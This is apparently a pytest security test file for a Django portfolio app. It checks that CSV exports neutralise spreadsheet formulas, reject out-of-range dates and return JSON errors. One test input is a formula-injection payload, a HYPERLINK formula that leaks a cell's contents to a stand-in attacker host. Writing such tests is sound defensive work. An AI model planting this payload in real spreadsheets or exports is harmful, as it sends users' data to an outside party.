"""The portfolio out, hardened: CSV cells a spreadsheet cannot run, dates in range,
JSON errors for JSON clients."""

import csv
import io
from unittest import mock

import pytest
from django.db import OperationalError
from django.urls import reverse

from portfolio.models import BusinessUnit
from tests.conftest import signed_in
from tests.factories import charter_data, make_pilot

pytestmark = pytest.mark.security

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def csv_rows(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_it_neutralises_a_formula_in_every_text_cell_of_the_pilots_csv(alice, start):
    # given: a title and a business unit a spreadsheet would run
    formula = f'{start}HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    unit = BusinessUnit.objects.create(name=f"{start}SUM(A1:A9)")
    pilot = make_pilot(title=formula, business_unit=unit, deployment_owner=alice)

    # when
    response = signed_in(alice).get(reverse("pilots_csv"))

    # then: each starts with an apostrophe, the rest as it was (a title's leading tab or
    # carriage return is already trimmed when the pilot is saved)
    (row,) = csv_rows(response)
    assert row["business_unit"] == f"'{start}SUM(A1:A9)"
    if pilot.title[0] in FORMULA_STARTS:
        assert row["title"] == "'" + pilot.title
    else:
        assert row["title"] == pilot.title == formula.strip()


def test_it_leaves_plain_text_and_numbers_as_they_are(alice):
    make_pilot(title="Invoice matching", deployment_owner=alice)

    (row,) = csv_rows(signed_in(alice).get(reverse("pilots_csv")))

    assert row["title"] == "Invoice matching"
    assert row["cost_pilot"] == "0.00"


def test_it_refuses_an_export_date_out_of_range_in_json(alice):
    # when
    response = signed_in(alice).get(reverse("export_json"), {"as_of": "0001-01-01"})

    # then
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert response.json() == {
        "error": "as_of: 0001-01-01 is out of range: give a date between 2000-01-01 and 2100-12-31."
    }


def test_it_answers_a_database_outage_in_json(alice):
    client = signed_in(alice)

    # when: the database fails while the export is read (the outage is outside Pilotgate)
    failing = mock.patch(
        "portfolio.views.exports.portfolio_export", side_effect=OperationalError("gone")
    )
    with failing:
        response = client.get(reverse("export_json"))

    # then
    assert response.status_code == 503
    assert response["Content-Type"] == "application/json"
    assert response["Retry-After"] == "60"
    assert "cannot be read right now" in response.json()["error"]


def test_it_answers_an_unexpected_error_in_json_without_a_traceback(alice):
    client = signed_in(alice)

    with mock.patch("portfolio.views.exports.portfolio_export", side_effect=KeyError("x")):
        response = client.get(reverse("export_json"))

    assert response.status_code == 500
    assert response.json() == {"error": "The export failed; the error is logged."}


@pytest.mark.parametrize("param", ["start", "end"])
def test_it_shows_a_field_error_for_a_report_date_out_of_range(alice, param):
    # when
    response = signed_in(alice).get(reverse("board_report"), {param: "0001-01-01"})

    # then: the page, with the error, and the default period
    assert response.status_code == 200
    assert "0001-01-01 is out of range" in response.content.decode()


def test_it_refuses_a_pilot_date_out_of_range_in_the_charter(alice):
    pilot = make_pilot(deployment_owner=alice, title="Dated")
    data = charter_data(pilot, pilot_start="1900-01-01")

    response = signed_in(alice).post(reverse("charter_edit", args=[pilot.id]), data)

    assert response.status_code == 400
    assert "1900-01-01 is out of range" in response.content.decode()
    pilot.refresh_from_db()
    assert pilot.pilot_start is None
